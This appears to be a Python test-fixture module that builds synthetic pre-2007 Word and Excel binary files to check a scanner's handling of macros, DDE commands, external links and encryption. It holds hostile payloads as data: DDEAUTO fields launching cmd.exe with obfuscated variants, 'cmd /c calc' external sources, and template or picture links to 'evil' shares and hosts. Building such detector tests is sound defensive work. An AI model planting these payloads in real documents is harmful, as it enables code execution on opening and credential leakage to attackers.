"""Office files of before 2007, with tables and chains that are right."""

# one file of the collection in one line
from __future__ import annotations

import struct
from itertools import pairwise

_FREE, _END, _TABLE = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
_SECTOR = 512


def compound(
    streams: dict[str, bytes], storages: tuple[str, ...] = (), *, is_scattered: bool = False
) -> bytes:
    """Each stream of 4096 bytes and more stands in sectors of its own; `is_scattered`: every second one."""
    entries = [("Root Entry", 5, _END, 0)]
    sectors: list[bytes] = [b"", b""]  # the table and the directory come first
    chains = [_TABLE, _END]
    for name, content in streams.items():
        padded = content.ljust(4096, b"\0")
        pieces = [padded[at : at + _SECTOR].ljust(_SECTOR, b"\0") for at in range(0, len(padded), _SECTOR)]
        places = []
        for piece in pieces:
            if is_scattered:
                sectors.append(b"\xaa" * _SECTOR)
                chains.append(_FREE)
            places.append(len(sectors))
            sectors.append(piece)
            chains.append(_END)
        for here, there in pairwise(places):
            chains[here] = there
        entries.append((name, 2, places[0], len(padded)))
    entries += [(name, 1, _END, 0) for name in storages]
    assert len(entries) <= 4
    assert len(chains) <= 128
    sectors[0] = struct.pack("<128I", *chains, *[_FREE] * (128 - len(chains)))
    sectors[1] = b"".join(_entry(*entry) for entry in entries).ljust(_SECTOR, b"\0")
    header = bytearray(_SECTOR)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIII", header, 44, 1, 1, 0, 4096, _END, 0, _END, 0)
    struct.pack_into("<109I", header, 76, 0, *[_FREE] * 108)
    return bytes(header) + b"".join(sectors)


def _entry(name: str, kind: int, start: int, size: int) -> bytes:
    entry = bytearray(128)
    text = name.encode("utf-16-le")
    entry[: len(text)] = text
    struct.pack_into("<HB", entry, 64, len(text) + 2, kind)
    struct.pack_into("<II", entry, 116, start, size)
    return bytes(entry)


def record(kind: int, body: bytes = b"") -> bytes:
    return struct.pack("<HH", kind, len(body)) + body


BEGIN = record(0x0809, struct.pack("<HHHHII", 0x0600, 5, 0, 0, 0, 0))


def workbook(*records: bytes) -> bytes:
    return BEGIN + b"".join(records) + record(0x000A)


def sheet(kind: int = 0) -> bytes:
    return record(0x0085, struct.pack("<IBBBB", 0, 0, kind, 1, 0) + b"a")


def source(path: str) -> bytes:
    return record(0x01AE, struct.pack("<HHB", 1, len(path), 0) + path.encode("latin-1"))


def source_name(flags: int) -> bytes:
    return record(0x0023, struct.pack("<HIB", flags, 0, 1) + b"\0a")


def xls(*records: bytes, storages: tuple[str, ...] = (), is_scattered: bool = False) -> tuple[str, bytes]:
    content = compound({"Workbook": workbook(*records)}, storages, is_scattered=is_scattered)
    return "a.xls", content


def doc(
    text: bytes = b"Kinh gui Bo",
    *,
    flags: int = 0,
    storages: tuple[str, ...] = (),
    is_scattered: bool = False,
) -> tuple[str, bytes]:
    head = struct.pack("<HHHHHH", 0xA5EC, 0xC1, 0, 0x409, 0, flags).ljust(1024, b"\0")
    return "a.doc", compound({"WordDocument": head + text}, storages, is_scattered=is_scattered)


def wide(text: str) -> bytes:
    return text.encode("utf-16-le")


def doc_in_pieces(*pieces: bytes | str, template: str = "C:\\Mau\\Normal.dot") -> tuple[str, bytes]:
    """As Word saves in a hurry: the text stands backwards in its stream, and a list says how it is read."""
    text, places = b"", []
    for piece in reversed(pieces):
        stored = piece if isinstance(piece, bytes) else wide(piece)
        place = 1024 + len(text)
        places.insert(0, 2 * place | 0x4000_0000 if isinstance(piece, bytes) else place)
        text += stored + b"\0" * (len(stored) % 2)
    borders = [sum(map(len, pieces[:number])) for number in range(len(pieces) + 1)]
    order = struct.pack(f"<{len(borders)}I", *borders)
    order += b"".join(struct.pack("<HIH", 0, place, 0) for place in places)
    order = b"\x01\x02\0xx\x02" + struct.pack("<I", len(order)) + order
    names = struct.pack("<HHH", 0xFFFF, 2, 0)
    names += b"".join(struct.pack("<H", len(name)) + wide(name) for name in ("", template))
    head = bytearray(1024)
    struct.pack_into("<HHHHHH", head, 0, 0xA5EC, 0xC1, 0, 0x409, 0, 0x0200)
    struct.pack_into("<IIII", head, 0x19A, 0, len(names), len(names), len(order))
    return "a.doc", compound({"WordDocument": bytes(head) + text, "1Table": names + order})


_LINK_CLASS = bytes.fromhex("d0c9ea79f9bace118c8200aa004ba90b")
_WEB = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
_FILE = bytes.fromhex("0303000000000000c000000000000046")


def link(flags: int, rest: bytes) -> bytes:
    return record(0x01B8, bytes(8) + _LINK_CLASS + struct.pack("<II", 2, flags) + rest)


def counted(text: str) -> bytes:
    return struct.pack("<I", len(text) + 1) + wide(f"{text}\0")


def web_link(address: str) -> bytes:
    stored = wide(f"{address}\0")
    return link(0x17, counted("xem") + _WEB + struct.pack("<I", len(stored)) + stored)


def file_link(path: bytes) -> bytes:
    stored = struct.pack("<HI", 0, len(path) + 1) + path + b"\0\xff\xff\xad\xde" + bytes(24)
    return link(3, _FILE + stored)


def figures(path: bytes) -> bytes:
    """Where a pivot table has its figures from: an area."""
    return record(0x0051, bytes(6) + struct.pack("<HB", len(path), 0) + path)


def named_figures(path: bytes) -> bytes:
    stored = struct.pack("<HB", len(path), 0) + path if path else bytes(2)
    return record(0x0052, struct.pack("<HB", 3, 0) + b"abc" + stored)


def formula(*texts: str, function: int = 359) -> bytes:
    """HYPERLINK of these, or another function by its number."""
    tokens = b"".join(struct.pack("<BBB", 0x17, len(text), 1) + wide(text) for text in texts)
    tokens += struct.pack("<BBH", 0x42, max(len(texts), 1), function)
    return record(0x0006, bytes(20) + struct.pack("<H", len(tokens)) + tokens)


def xls_95(*records: bytes) -> tuple[str, bytes]:
    begin = record(0x0809, struct.pack("<HHHH", 0x0500, 5, 0, 0))
    return "a.xls", compound({"Book": begin + b"".join(records) + record(0x000A)})


def source_95(path: bytes, length: int = 0) -> bytes:
    return record(0x0017, bytes([length or len(path)]) + path)


def drawing(name: str, flags: int, kind: int = 0x00EC) -> bytes:
    """A picture by its name, and how it is kept: 0x0A is linked, 2 is in the file."""
    stored = wide(f"{name}\0")
    properties = struct.pack("<HIHI", 0xC105, len(stored), 0x0106, flags) + stored
    return record(kind, struct.pack("<HHI", 0x23, 0xF00B, len(properties)) + properties)


def broken(file: tuple[str, bytes], at: int, what: bytes) -> tuple[str, bytes]:
    name, content = file
    return name, content[:at] + what + content[at + len(what) :]


ORDINARY: dict[str, tuple[str, bytes]] = {
    "a workbook": xls(sheet()),
    "a workbook with a chart": xls(sheet(), sheet(2)),
    "a workbook in pieces": xls(sheet(), is_scattered=True),
    "its own sheets as a source": xls(record(0x01AE, struct.pack("<HH", 1, 0x0401))),
    "links to the web and to a place": xls(
        web_link("https://moj.gov.vn"), web_link("mailto:a@b.vn"), link(8, counted("'Quý 1'!A1"))
    ),
    "a link by a formula": xls(formula("https://moj.gov.vn", "xem")),
    "a link by a formula to a place": xls(formula("#S!A1")),
    "a reference by its text": xls(formula("'Quý 1'!A1", function=148)),
    "a pivot table of its own sheet": xls(figures(b"\x02Sheet1"), named_figures(b"")),
    "a picture from the web, kept inside": xls(drawing("http://a.vn/a.png", 2)),
    "a picture from a folder": xls(drawing("C:\\anh\\a.png", 0)),
    "a workbook of Excel 95": xls_95(
        sheet(), source_95(b"\x03Sheet1"), source_95(b"\x04"), source_95(b"\x3a", 1), source_name(0)
    ),
    "numbers where Excel 95 had names": xls(record(0x0017, struct.pack("<HHHH", 1, 0x6301, 0x0364, 0))),
    "a letter": doc(),
    "a letter in pieces": doc_in_pieces("Kính gửi ", b"Bo \x13 PAG", "E \x141\x15"),
    "a letter with fields in fields": doc(
        b"\x13 IF \x13 MERGEFIELD a \x15=1 a b\x14b\x15 \x13=\x13PAGE\x15-1\x15"
    ),
    "a link with what belongs to it": doc(b'\x13 HYPERLINK \\l "_Toc1" \x01\x14a\x15'),
    "figures that look like fields": doc(bytes([19, 19, 7, 21, 19, 0, 19, 0, 21, 0, 19, 19, 65, 66, 21]) * 9),
    "a letter with fields": doc(b'\x13 PAGE \x141\x15 \x13 HYPERLINK "https://moj.gov.vn" \x14a\x15'),
    "a letter about DDE": doc(b"Tat DDEAUTO the nao"),
}
WARNED: dict[str, tuple[str, bytes, str]] = {
    "another workbook": (*xls(source("\x01[a.xls]Sheet1")), "external"),
    "a path in folders": (*xls(source("\x01C\x03a\x03b.xls"), source_name(0)), "external"),
    "an object of another program": (
        *xls(source("Word.Document\x03c:\\a.doc"), source_name(0x10)),
        "external",
    ),
    "a query": (*xls(record(0x00DC, bytes(12))), "external"),
    "a workbook with a password": (*xls(record(0x002F, bytes(6))), "encrypted"),
    "an object inside": (*xls(sheet(), storages=("MBD0001",)), "embedded"),
    "a letter with a password": (*doc(flags=0x0100), "encrypted"),
    "an object in a letter": (*doc(storages=("ObjectPool",)), "embedded"),
    "a picture elsewhere": (*doc(b'\x13 INCLUDEPICTURE "http://evil/a.png" \x14\x15'), "external"),
    "a picture elsewhere in wide letters": (
        *doc(wide('\x13INCLUDEPICTURE "http://evil/a.png"\x14\x15')),
        "external",
    ),
    "a template elsewhere": (*doc(wide("http://evil.example/a.dotm")), "external"),
    "a template on a share": (*doc(wide("\\\\evil\\share\\a.dot")), "external"),
    **{
        f"a link to {name} by {how}": (
            *doc(code(f'\x13{blank}HYPERLINK "{address}" \x01\x14a\x15')),
            "external",
        )
        for name, address in (("a share", "\\\\\\\\evil\\\\s"), ("a file", "file://evil/s"))
        for how, code, blank in (("a field", str.encode, " "), ("a wide field", wide, "\xa0"))
    },
    **{
        f"a field {name}": (*doc(b'\x13 %b "\\\\\\\\evil\\\\s" \x14\x15' % name.encode()), "external")
        for name in ("DATABASE", "INCLUDE", "RD", "INCLUDETEXT", "IMPORT", "LINK")
    },
    "a field in pieces that fetches": (*doc_in_pieces("\x13 INCLU", b"DEPICTURE a\x14\x15"), "external"),
    "a template on the web by any name": (*doc_in_pieces("a", template="http://evil/a.php"), "external"),
    "a template on a share by any name": (*doc_in_pieces("a", template="\\\\evil\\s\\a"), "external"),
    "a link to a share": (*xls(link(0x103, counted("\\\\evil\\s"))), "external"),
    "a link to a file on a share": (*xls(file_link(b"\\\\evil\\s")), "external"),
    "a link to a file by its address": (*xls(web_link("file://evil/s")), "external"),
    "a link to a script": (*xls(web_link("javascript:alert(1)")), "external"),
    "a link of an unknown class": (*xls(link(3, bytes(16))), "external"),
    "a link that ends too early": (*xls(link(0x103, b"")), "unread"),
    "a link by a formula to a share": (*xls(formula("\\\\evil\\s", "xem")), "external"),
    "a reference by its text to a share": (
        *xls(formula("'\\\\evil\\s\\[a.xls]S'!A1", function=148)),
        "external",
    ),
    "a reference by its text to a folder": (*xls(formula("'C:\\[a.xls]S'!A1", function=148)), "external"),
    "a link by a formula to a share in pieces": (*xls(formula("\\", "\\evil")), "external"),
    "a link by a formula to a share behind another": (
        *xls(formula("https://a.vn", "\\\\evil\\s")),
        "external",
    ),
    "a link by a formula to a cell": (*xls(formula()), "external"),
    "figures of a share": (*xls(figures(b"\x01\x01@evil\x03a.xls")), "external"),
    "named figures of a share": (*xls(named_figures(b"\x01\x01@evil\x03a.xls")), "external"),
    "a picture on a share": (*xls(drawing("\\\\evil\\s\\a.png", 10, 0x00EB)), "external"),
    "a picture on the web": (*xls(drawing("http://evil/a.png", 10)), "external"),
    "a workbook of Excel 95 with another": (*xls_95(source_95(b"\x01\x01@evil\x03[a.xls]S")), "external"),
    "a workbook of Excel 95 with an object": (
        *xls_95(source_95(b"Word.Document\x03c:\\a.doc"), source_name(0x10)),
        "external",
    ),
    "a chain without an end": (*broken(doc(), 512 + 4 * 2, struct.pack("<I", 2)), "unread"),
    "a chain that leads nowhere": (*broken(doc(), 512 + 4 * 2, struct.pack("<I", 99)), "unread"),
    "a workbook that is none": ("a.xls", compound({"Workbook": b"nothing"}), "unread"),
    "a letter that is none": ("a.doc", compound({"WordDocument": b"nothing"}), "unread"),
}
_COMMANDS = {
    "in numbers": "\x13 \x13 QUOTE 68 68 69 65 \x14\x15 c:\\cmd x\x14\x15",
    "in numbers with another result": "\x13 \x13 QUOTE 68 68 69 65 \x14PAGE\x15 c:\\cmd x\x14\x15",
    "in halves": "\x13 D\x13 QUOTE 68 69 \x15 c:\\cmd x\x14\x15",
    "by a property": "\x13\x13 DOCPROPERTY a \x15 c:\\cmd x\x14\x15",
    "behind a line": "\x13\rDDE c:\\cmd x\x14\x15",
    "before a line": "\x13DDE\rc:\\cmd x\x14\x15",
    "in quotes": '\x13 "DDE" c:\\cmd x\x14\x15',
    "without an end": "\x13 DDEAUTO c:\\cmd x",
}
REFUSED: dict[str, tuple[str, bytes, str]] = {
    "macros in small letters": (*doc(storages=("macros",)), "macros"),
    "VBA in small letters": (*doc(storages=("vba",)), "macros"),
    "macros in mixed letters": (*xls(sheet(), storages=("_Vba_Project_Cur",)), "macros"),
    "a sheet of macros": (*xls(sheet(1)), "macros"),
    "a sheet of macros in pieces": (
        *xls(*[record(0x0031, bytes(700))] * 9, sheet(1), is_scattered=True),
        "macros",
    ),
    "a command": (*xls(source("cmd\x03/c calc"), source_name(0)), "commands"),
    "a field with a command": (*doc(b"\x13 DDEAUTO c:\\\\windows\\\\cmd.exe \x14\x15"), "commands"),
    "a field with a command in wide letters": (*doc(wide("\x13 dde cmd \x14\x15")), "commands"),
    "a field with a command in pieces": (
        *doc(b"x" * (510 - 1024 % 512) + b"\x13 DDE cmd \x14", is_scattered=True),
        "commands",
    ),
    "a command in a workbook of Excel 95": (
        *xls_95(source_95(b"cmd\x03/c calc"), source_name(0)),
        "commands",
    ),
    **{
        f"a field with a command, {how}": (*doc(code(words)), "commands")
        for how, words in _COMMANDS.items()
        for code, how in ((str.encode, how), (wide, f"{how} (wide)"))
    },
    "a field with a command behind a hard blank": (*doc(b"\x13\xa0DDE c:\\cmd x\x14\x15"), "commands"),
    "a field in pieces with a command": (*doc_in_pieces("\x13 D", b"DE c:\\cmd ", "\x14\x15"), "commands"),
    "a field in pieces whose name is a bookmark": (*doc_in_pieces("\x13 \x13c", b"\x15 cmd\x15"), "commands"),
    "a package with a password": ("a.doc", compound({"EncryptedPackage": b""}), "password"),
}
